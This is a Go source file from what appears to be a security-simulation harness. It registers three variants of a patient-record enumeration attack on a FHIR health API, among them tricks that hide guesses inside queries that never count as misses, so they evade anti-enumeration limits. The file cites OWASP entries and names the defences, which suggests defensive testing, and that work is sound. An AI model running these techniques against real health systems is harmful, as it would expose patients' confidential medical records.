package attacker

import (
	"context"
	"fmt"
	"net/http"

	"thiefbox/sim/event"
)

var _ = register("F-13", Technique{
	Title: "Record numbers tried one after the other",
	Story: "The thief is a doctor with a valid token and a guess at how records are numbered. He counts down from a number that is surely too " +
		"high until a record opens that is not his.",
	Reads:  []string{"OWASP API4:2023", "OWASP API6:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects + " One that turns away whoever keeps missing makes guessing slow.",
	Run: func(ctx context.Context, g Ground) error {
		return guessNumbers(ctx, g, aboveAll, func(id string) string { return record(g, id) })
	},
})

var _ = register("F-13/behind-a-hit", Technique{
	Variant: "behind-a-hit",
	Title:   "Record numbers tried beside one's own",
	Story: "An API that counts misses counts answers in which nobody was found. The thief asks for two patients at a time, one of his own and one whose " +
		"number he guesses: somebody is found every time.",
	Reads:  []string{"OWASP API4:2023", "OWASP API6:2023", "FHIR R4 search, _id"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects + " One that counts whoever was named and not found makes guessing slow.",
	Run: func(ctx context.Context, g Ground) error {
		return guessNumbers(ctx, g, aboveAll, func(id string) string {
			return g.Target().FHIRBase + "/Patient?_id=" + g.Target().OwnPatient + "," + id
		})
	},
})

var _ = register("F-13/chained", Technique{
	Variant: "chained",
	Title:   "Record numbers tried behind a question that is never a miss",
	Story: "The thief knows that an API turns away whoever asks for records that are not there. So he asks for doctors, whom everybody may see: those " +
		"who have a patient of such a number. That nobody is found is an ordinary answer, and he counts down until somebody is.",
	Reads:  []string{"OWASP API4:2023", "hapi-fhir #6065", "FHIR R4 search, _has"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects + " One that bounds how much a caller may ask in a minute makes guessing slow.",
	Run: func(ctx context.Context, g Ground) error {
		const above = 122 // more guesses than an API that counts lets through
		return guessNumbers(ctx, g, above, func(id string) string {
			return g.Target().FHIRBase + "/Practitioner?_summary=count&_has:Patient:general-practitioner:_id=" + id
		})
	},
})

// aboveAll is how far above the highest number that is of use he begins: well beyond how often an API that counts
// misses lets him miss.
const aboveAll = 24

// guessNumbers asks about one number after the other, down to that of the last of the strangers, until he has been
// through them or is turned away.
func guessNumbers(ctx context.Context, g Ground, above int, about func(id string) string) error {
	a, t, err := ownToken(ctx, g)
	if err != nil {
		return err
	}
	for _, id := range numbersDownTo(lastStranger(g), above) {
		ans, err := a.read(ctx, about(id), t)
		if err != nil {
			return err
		}
		if ans.status == http.StatusTooManyRequests {
			return nil
		}
	}
	return nil
}

// numbersDownTo lists ids like the given one, from some numbers above it downwards.
func numbersDownTo(id string, above int) (out []string) {
	var n int
	if _, err := fmt.Sscanf(id, "p%d", &n); err != nil {
		return []string{id}
	}
	for i := n + above; i >= n; i-- {
		out = append(out, fmt.Sprintf("p%02d", i))
	}
	return out
}
